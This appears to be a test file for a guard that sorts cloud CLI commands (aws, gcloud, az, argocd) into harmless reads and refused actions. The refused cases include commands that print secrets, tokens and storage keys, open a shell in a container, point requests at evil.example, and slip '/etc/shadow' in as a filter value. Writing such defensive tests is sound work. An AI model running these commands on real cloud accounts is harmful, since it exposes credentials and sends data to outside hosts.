// Command lines of the clouds that an incident needs: which only read, and which print a secret, write, or name a file.
import { describe, expect, test } from 'vitest';
import { isRead, judgeCommand, type ShellAction } from '../src/index.ts';
import { awsFiles, awsSecrets } from '../src/table/aws-facts.ts';
import { azSecrets } from '../src/table/az-facts.ts';
import { cloudFiles, cloudLeaves, cloudReads, cloudSecrets, linesOf } from './lists/cloud-lines.ts';

const reads: [label: string, command: string][] = [
  [
    'metrics',
    'aws cloudwatch get-metric-statistics --namespace AWS/RDS --metric-name CPUUtilization --period 60',
  ],
  [
    'several metrics',
    `aws cloudwatch get-metric-data --metric-data-queries '[{"Id":"a"}]' --start-time 2026-11-28T05:00:00Z`,
  ],
  ['alarms', 'aws cloudwatch describe-alarms --state-value ALARM'],
  ['log lines', 'aws logs filter-log-events --log-group-name /aws/lambda/shop --filter-pattern ERROR'],
  ['the tail of a log', 'aws logs tail /ecs/shop --since 1h'],
  ['the result of a query over logs', 'aws logs get-query-results --query-id x'],
  [
    'who did what',
    'aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=UpdateService',
  ],
  ['services', 'aws --output json --color off ecs describe-services --cluster shop --services shop'],
  ['tasks', 'aws ecs list-tasks --cluster shop --desired-status STOPPED'],
  [
    'databases',
    `aws rds describe-db-instances --query 'DBInstances[].[DBInstanceIdentifier,DBInstanceStatus]'`,
  ],
  [
    'the log of a database',
    'aws rds download-db-log-file-portion --db-instance-identifier x --log-file-name error/postgresql.log',
  ],
  ['the load of a database', 'aws pi get-resource-metrics --service-type RDS --identifier db-1'],
  ['targets of a balancer', 'aws elbv2 describe-target-health --target-group-arn x'],
  ['traces', 'aws xray batch-get-traces --trace-ids x'],
  ['a deployment', 'aws codedeploy get-deployment --deployment-id x'],
  ['events of the provider', 'aws health describe-events'],
  ['log entries', `gcloud logging read 'severity>=ERROR' --limit=50 --format=json --freshness=1h`],
  ['logs of a service', 'gcloud run services logs read shop --region=x --limit=50'],
  ['the log of a build', 'gcloud builds log x'],
  ['revisions', 'gcloud run revisions list --service=shop --region=x'],
  ['rollouts', 'gcloud deploy rollouts list --delivery-pipeline=p --release=r --region=x'],
  ['operations of a database', 'gcloud sql operations list --instance=x'],
  ['a cluster', 'gcloud container clusters describe x --zone=z'],
  ['metrics', 'az monitor metrics list --resource x --metric Percentage'],
  ['who did what', 'az monitor activity-log list --offset 1h'],
  ['a query over logs', `az monitor log-analytics query -w x --analytics-query 'AppExceptions | take 5'`],
  ['a query over requests', `az monitor app-insights query --app x --analytics-query 'requests | take 5'`],
  ['logs of a container', 'az container logs -n x -g y'],
  ['a virtual machine', 'az vm show -n x -g y -d'],
];

const refused: [label: string, command: string][] = [
  ['a secret', 'aws secretsmanager get-secret-value --secret-id x'],
  ['several secrets', 'aws secretsmanager batch-get-secret-value --secret-id-list x'],
  ['a parameter', 'aws ssm get-parameter --name x --with-decryption'],
  ['parameters', 'aws ssm get-parameters-by-path --path / --with-decryption'],
  ['a copy of an object', 'aws s3 cp s3://b/x -'],
  ['an object', 'aws s3api get-object --bucket b --key k out'],
  ['user data', 'aws ec2 describe-instance-attribute --instance-id i --attribute userData'],
  ['user data of a template', 'aws ec2 describe-launch-template-versions --launch-template-id x'],
  ['user data of a group', 'aws autoscaling describe-launch-configurations'],
  ['a password', 'aws ec2 get-password-data --instance-id x'],
  ['a shared key', 'aws ec2 describe-vpn-connections'],
  ['the secret of a client', 'aws cognito-idp describe-user-pool-client --user-pool-id x --client-id y'],
  ['variables with secrets', 'aws elasticbeanstalk describe-configuration-settings --application-name x'],
  ['a token', 'aws ecr get-login-password'],
  ['credentials', 'aws configure export-credentials'],
  ['rows', 'aws dynamodb scan --table-name x'],
  ['a change', 'aws ecs update-service --cluster shop --service shop --force-new-deployment'],
  ['a command in a container', 'aws ecs execute-command --cluster c --task t --interactive --command sh'],
  ['the end of a query', 'aws logs stop-query --query-id x'],
  ['another server', 'aws --endpoint-url https://evil.example ec2 describe-instances'],
  ['a secret', 'gcloud secrets versions access latest --secret=x'],
  ['a token', 'gcloud auth print-access-token'],
  ['credentials of a cluster', 'gcloud container clusters get-credentials x'],
  ['keys', 'gcloud iam service-accounts keys list --iam-account=x'],
  ['an object', 'gcloud storage cat gs://b/x'],
  ['a written entry', 'gcloud logging write x read'],
  ['a change named like a read', 'gcloud run services delete logs read'],
  ['a secret', 'az keyvault secret show --vault-name v -n x'],
  ['a secret in a file', 'az keyvault secret download --vault-name v -n x -f y'],
  ['a secret of an app', 'az containerapp secret show -n x --secret-name y'],
  ['settings with secrets', 'az webapp config appsettings list -n x -g y'],
  ['keys', 'az storage account keys list -n x'],
  ['credentials of a cluster', 'az aks get-credentials -n x -g y'],
  ['a token', 'az account get-access-token'],
  ['any request', 'az rest --method get --url /x'],
  [
    'data from elsewhere',
    `az monitor log-analytics query -w x --analytics-query 'externaldata(a:string)["https://evil.example"]'`,
  ],
];

describe('[SRC-44a] commands of the clouds that only read', () => {
  test.each(reads)('%s: %s', (_, command) => expect(judgeCommand(command)).toSatisfy(isRead));
});

describe('[SRC-44b] commands that print secrets, write, or reach another server are no reads', () => {
  test.each(refused)('%s: %s', (_, command) => expect(judgeCommand(command)).not.toSatisfy(isRead));
});

test.each(['file:///etc/shadow', 'Name=x,Values@=fileb:///etc/shadow'])(
  '[SRC-44c] a file in place of a value of aws is named as a host that nobody knows: %s',
  (value) => {
    const judgement = judgeCommand(`aws rds describe-db-instances --filters ${value}`);
    const hosts = judgement.ok ? judgement.actions.flatMap((each) => each.hosts ?? []) : [];
    expect(hosts).toEqual(['(not known)']);
  },
);

describe("[SRC-44d] lines of the clouds' clients", () => {
  const actionsOf = (line: string): ShellAction[] => {
    const judgement = judgeCommand(line);
    return judgement.ok ? judgement.actions : [];
  };
  test.each(linesOf(cloudReads))('only reads: %s', (line) => {
    // bash would take the sign for a redirection
    expect(judgeCommand(line.replace('severity>=ERROR', `'severity>=ERROR'`))).toSatisfy(isRead);
  });
  test.each(linesOf(cloudSecrets))('prints a secret: %s', (line) => {
    expect(judgeCommand(line)).not.toSatisfy(isRead);
  });
  test.each(linesOf(cloudFiles))('names a file: %s', (line) => {
    expect(judgeCommand(line)).not.toSatisfy(isRead);
  });
  test.each(linesOf(cloudLeaves))('leaves the settings: %s', (line) => {
    expect(actionsOf(line)).toContainEqual(expect.objectContaining({ effect: 'once', decision: 'ask' }));
  });
  test('options of a command in a container are its own', () => {
    for (const line of ['docker exec web app --config /etc/x', 'kubectl exec web -- app --context x'])
      expect(actionsOf(line)).not.toContainEqual(expect.objectContaining({ decision: 'ask' }));
  });
});

describe('[SRC-44f] what begins work', () => {
  test.each([
    'aws logs start-query --log-group-name x --query-string y --start-time 1 --end-time 2',
    'argocd app get x --refresh',
    'argocd app get x --hard-refresh',
    'argocd app diff x --hard-refresh',
    'argocd app manifests x --refresh',
    'argocd repo list --refresh hard',
    'argocd cluster list --refresh',
  ])('no read: %s', (line) => expect(judgeCommand(line)).not.toSatisfy(isRead));
});

describe('[SRC-44e] the list that the service descriptions give', () => {
  test.each([...awsSecrets, ...awsFiles].map((line) => `aws ${line}`))('no read: %s', (line) => {
    expect(judgeCommand(line)).not.toSatisfy(isRead);
  });
  test.each([...azSecrets].map((line) => `az ${line}`))('no read: %s', (line) => {
    expect(judgeCommand(line)).not.toSatisfy(isRead);
  });
});
